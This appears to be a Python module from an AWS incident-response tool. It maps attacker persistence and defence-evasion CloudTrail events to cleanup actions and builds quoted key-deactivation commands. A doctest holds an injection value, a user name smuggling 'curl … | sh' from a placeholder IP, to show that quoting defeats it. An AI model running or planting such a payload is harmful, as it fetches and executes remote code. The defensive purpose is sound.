"""What a session revocation cannot reach: the persistence catalog and the lineage's uncovered items.

A cut-off deny ends sessions; it does not undo what they did (aws-facts §3.10). The catalog maps each
persistence or defence-evasion call to the :class:`~ircreds.containment.Uncovered` item and the action
it needs; long-term keys, root sessions and sessions on roles outside the plan are listed too.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

import pandas as pd

from ircreds.containment.evaluate import is_temporary_key
from ircreds.containment.records import Uncovered, UncoveredKind, _s
from ircreds.containment.targets import ROLE_KINDS, USER_SESSION_KINDS, _is_root, _name_of, _target_of
from ircreds.escape import shell_join

# what a session revocation does not undo (aws-facts §3.10): event name -> (kind, action, target params)
# fmt: off
_PERSISTENCE: dict[str, tuple[UncoveredKind, str, tuple[str, ...]]] = {
    "CreateUser": (UncoveredKind.USER, "delete the user the attacker created (after removing its keys, login profile, policies and groups)", ("userName",)),
    "CreateLoginProfile": (UncoveredKind.LOGIN_PROFILE, "delete the console password (iam:DeleteLoginProfile)", ("userName",)),
    "UpdateLoginProfile": (UncoveredKind.LOGIN_PROFILE, "reset or delete the console password the attacker changed", ("userName",)),
    "CreateAccessKey": (UncoveredKind.ACCESS_KEY, "deactivate, then delete, the access key (iam:UpdateAccessKey --status Inactive)", ("userName",)),
    "UpdateAccessKey": (UncoveredKind.ACCESS_KEY, "check the status of the access key the attacker changed", ("accessKeyId", "userName")),
    "CreateRole": (UncoveredKind.ROLE, "delete the role the attacker created (and its instance profiles)", ("roleName",)),
    "AddUserToGroup": (UncoveredKind.USER, "remove the user from the group", ("userName", "groupName")),
    "AttachUserPolicy": (UncoveredKind.POLICY, "detach the policy the attacker attached", ("userName", "policyArn")),
    "AttachRolePolicy": (UncoveredKind.POLICY, "detach the policy the attacker attached", ("roleName", "policyArn")),
    "AttachGroupPolicy": (UncoveredKind.POLICY, "detach the policy the attacker attached", ("groupName", "policyArn")),
    "PutUserPolicy": (UncoveredKind.POLICY, "delete or restore the inline policy the attacker wrote", ("userName", "policyName")),
    "PutRolePolicy": (UncoveredKind.POLICY, "delete or restore the inline policy the attacker wrote", ("roleName", "policyName")),
    "PutGroupPolicy": (UncoveredKind.POLICY, "delete or restore the inline policy the attacker wrote", ("groupName", "policyName")),
    "CreatePolicyVersion": (UncoveredKind.POLICY, "set the previous default version back and delete the attacker's version", ("policyArn",)),
    "SetDefaultPolicyVersion": (UncoveredKind.POLICY, "set the previous default policy version back", ("policyArn",)),
    "UpdateAssumeRolePolicy": (UncoveredKind.TRUST_POLICY, "restore the role's trust policy (the attacker may have trusted an outside principal)", ("roleName",)),
    "PutRolePermissionsBoundary": (UncoveredKind.POLICY, "restore the role's permissions boundary", ("roleName",)),
    "DeleteRolePermissionsBoundary": (UncoveredKind.POLICY, "restore the role's permissions boundary", ("roleName",)),
    "DeactivateMFADevice": (UncoveredKind.MFA, "re-enable MFA for the user", ("userName",)),
    "CreateVirtualMFADevice": (UncoveredKind.MFA, "delete the MFA device the attacker created", ("virtualMFADeviceName",)),
    "EnableMFADevice": (UncoveredKind.MFA, "remove the MFA device the attacker enabled", ("userName",)),
    "CreateSAMLProvider": (UncoveredKind.FEDERATION, "delete the SAML provider the attacker created", ("name",)),
    "UpdateSAMLProvider": (UncoveredKind.FEDERATION, "restore the SAML provider's metadata", ("sAMLProviderArn",)),
    "CreateOpenIDConnectProvider": (UncoveredKind.FEDERATION, "delete the OIDC provider the attacker created", ("url",)),
    "GetFederationToken": (UncoveredKind.FEDERATION, "federation tokens outlive the key that made them (up to 36 h): deny on the issuing IAM user", ("name",)),
    "GetSessionToken": (UncoveredKind.FEDERATION, "session tokens outlive the key that made them (up to 36 h): deny on the issuing IAM user", ()),
    "GetSigninToken": (UncoveredKind.FEDERATION, "a console session was opened from these credentials: revoke on the principal and watch console activity", ()),
    "CreateFunction": (UncoveredKind.COMPUTE, "review and delete the Lambda function the attacker created", ("functionName",)),
    "UpdateFunctionCode": (UncoveredKind.COMPUTE, "restore the Lambda function's code", ("functionName",)),
    "UpdateFunctionConfiguration": (UncoveredKind.COMPUTE, "restore the Lambda function's configuration (role, layers, environment)", ("functionName",)),
    "AddPermission": (UncoveredKind.COMPUTE, "remove the Lambda invoke permission the attacker added", ("functionName",)),
    "RunInstances": (UncoveredKind.COMPUTE, "inspect and terminate instances the attacker launched (check the instance profile)", ("instanceType",)),
    "ModifyInstanceAttribute": (UncoveredKind.COMPUTE, "restore the instance attribute (userData can run code at boot)", ("instanceId",)),
    "CreateKeyPair": (UncoveredKind.COMPUTE, "delete the key pair the attacker created", ("keyName",)),
    "ImportKeyPair": (UncoveredKind.COMPUTE, "delete the key pair the attacker imported", ("keyName",)),
    "AuthorizeSecurityGroupIngress": (UncoveredKind.COMPUTE, "revoke the ingress rule the attacker opened", ("groupId",)),
    "SendCommand": (UncoveredKind.COMPUTE, "review what the SSM command ran on the instances", ("documentName",)),
    "StartSession": (UncoveredKind.COMPUTE, "review the SSM session and the instance", ("target",)),
    "PutBucketPolicy": (UncoveredKind.RESOURCE_POLICY, "restore the bucket policy", ("bucketName",)),
    "PutBucketAcl": (UncoveredKind.RESOURCE_POLICY, "restore the bucket ACL", ("bucketName",)),
    "DeletePublicAccessBlock": (UncoveredKind.RESOURCE_POLICY, "restore the public access block", ("bucketName",)),
    "PutPublicAccessBlock": (UncoveredKind.RESOURCE_POLICY, "check the public access block the attacker changed", ("bucketName",)),
    "PutKeyPolicy": (UncoveredKind.RESOURCE_POLICY, "restore the KMS key policy", ("keyId",)),
    "CreateGrant": (UncoveredKind.RESOURCE_POLICY, "retire the KMS grant the attacker created", ("keyId",)),
    "ModifySnapshotAttribute": (UncoveredKind.RESOURCE_POLICY, "stop sharing the snapshot", ("snapshotId",)),
    "ModifyDBSnapshotAttribute": (UncoveredKind.RESOURCE_POLICY, "stop sharing the DB snapshot", ("dBSnapshotIdentifier",)),
    "StopLogging": (UncoveredKind.DEFENCE_EVASION, "restart CloudTrail logging (cloudtrail:StartLogging)", ("name",)),
    "DeleteTrail": (UncoveredKind.DEFENCE_EVASION, "recreate the trail and look for the gap in evidence", ("name",)),
    "UpdateTrail": (UncoveredKind.DEFENCE_EVASION, "restore the trail's configuration", ("name",)),
    "PutEventSelectors": (UncoveredKind.DEFENCE_EVASION, "restore the trail's event selectors", ("trailName",)),
    "DeleteDetector": (UncoveredKind.DEFENCE_EVASION, "re-enable GuardDuty", ("detectorId",)),
    "UpdateDetector": (UncoveredKind.DEFENCE_EVASION, "restore GuardDuty's configuration", ("detectorId",)),
    "CreateIPSet": (UncoveredKind.DEFENCE_EVASION, "delete the GuardDuty trusted IP set", ("detectorId",)),
    "CreateFilter": (UncoveredKind.DEFENCE_EVASION, "delete the GuardDuty suppression filter", ("detectorId",)),
    "DeleteFlowLogs": (UncoveredKind.DEFENCE_EVASION, "recreate the VPC flow logs", ()),
    "StopConfigurationRecorder": (UncoveredKind.DEFENCE_EVASION, "restart the AWS Config recorder", ()),
}
# fmt: on


def _persistence_name(event_name: str) -> str | None:
    if event_name in _PERSISTENCE:
        return event_name
    for name in ("CreateFunction", "UpdateFunctionCode", "UpdateFunctionConfiguration", "AddPermission"):
        if event_name.startswith(name):  # Lambda names carry an API version suffix (…20150331v2)
            return name
    return None


def _json_obj(text: Any) -> dict[str, Any]:
    s = _s(text)
    if not s:
        return {}
    try:
        value = json.loads(s)
    except ValueError:
        return {}
    return value if isinstance(value, dict) else {}


def _deactivate_command(user: str | None, access_key_id: str | None) -> str:
    """The AWS CLI command that deactivates a key; user names and key ids are attacker-written: quoted.

    >>> _deactivate_command("svc; curl https://203.0.113.9/x | sh #", "AKIAIOSFODNN7EXAMPLE")
    "aws iam update-access-key --user-name 'svc; curl https://203.0.113.9/x | sh #' --access-key-id AKIAIOSFODNN7EXAMPLE --status Inactive"
    """
    return shell_join(
        [
            "aws",
            "iam",
            "update-access-key",
            "--user-name",
            user or "USER",
            "--access-key-id",
            access_key_id or "KEY",
            "--status",
            "Inactive",
        ]
    )


def _uncovered_from_lineage(
    nodes: list[Any], creds: Mapping[str, Mapping[str, Any]], targets: set[str]
) -> list[Uncovered]:
    out: list[Uncovered] = []
    for node in nodes:
        cred = creds[node.key]
        kind = _s(cred.get("kind"))
        if not is_temporary_key(node.key) and kind not in USER_SESSION_KINDS | ROLE_KINDS:
            user = _s(cred.get("session_name")) or _name_of(_s(cred.get("principal_arn")) or node.key)
            out.append(
                Uncovered(
                    kind=UncoveredKind.ACCESS_KEY,
                    target=node.key,
                    access_key_id=node.key,
                    event_ids=tuple(cred.get("issuing_event_ids") or ()),
                    detail=f"long-term key of user {user}",
                    action=(
                        f"deactivate, then delete, access key {node.key} of user {user} "
                        f"({_deactivate_command(user, node.key)}); "
                        "no aws:TokenIssueTime deny reaches a long-term key"
                    ),
                )
            )
        t = _target_of(cred)
        if (
            t is not None
            and t[1] not in targets
            and not _is_root(t[1])
            and not any(u.access_key_id == node.key for u in out)
        ):
            out.append(
                Uncovered(
                    kind=UncoveredKind.SESSION,
                    target=t[1],
                    access_key_id=node.key,
                    action=f"session {node.key} of {t[1]} is outside the plan: apply a cut-off there",
                )
            )
        out.extend(_uncovered_calls(node))
    return out


def _uncovered_calls(node: Any) -> list[Uncovered]:
    calls = node.calls
    if calls is None or not len(calls) or "eventName" not in calls.columns:
        return []
    names = calls["eventName"].astype("string")
    ok = calls["errorCode"].isna() if "errorCode" in calls.columns else pd.Series(True, index=calls.index)
    out: list[Uncovered] = []
    for pos in calls.index[ok.to_numpy(dtype=bool)]:
        name = _persistence_name(str(names.loc[pos]))
        if name is None:
            continue
        kind, action, params = _PERSISTENCE[name]
        row = calls.loc[pos]
        req = _json_obj(row.get("requestParameters"))
        resp = _json_obj(row.get("responseElements"))
        parts = [str(req[p]) for p in params if req.get(p)]
        target = "/".join(parts) or name
        access_key_id = None
        if name == "CreateAccessKey":
            access_key = resp.get("accessKey") if isinstance(resp.get("accessKey"), dict) else {}
            access_key_id = _s(access_key.get("accessKeyId"))
            user = _s(access_key.get("userName")) or (parts[0] if parts else None) or "the user"
            target = access_key_id or target
            action = (
                f"deactivate, then delete, access key {access_key_id} of user {user} "
                f"({_deactivate_command(user, access_key_id)})"
            )
        elif name in ("GetFederationToken", "GetSessionToken"):
            creds = resp.get("credentials") if isinstance(resp.get("credentials"), dict) else {}
            access_key_id = _s(creds.get("accessKeyId"))
            target = access_key_id or target
        event_id = _s(row.get("eventID"))
        out.append(
            Uncovered(
                kind=kind,
                target=target,
                action=action,
                access_key_id=access_key_id,
                event_ids=(event_id,) if event_id else (),
                detail=f"{name} by {node.key}",
            )
        )
    return out
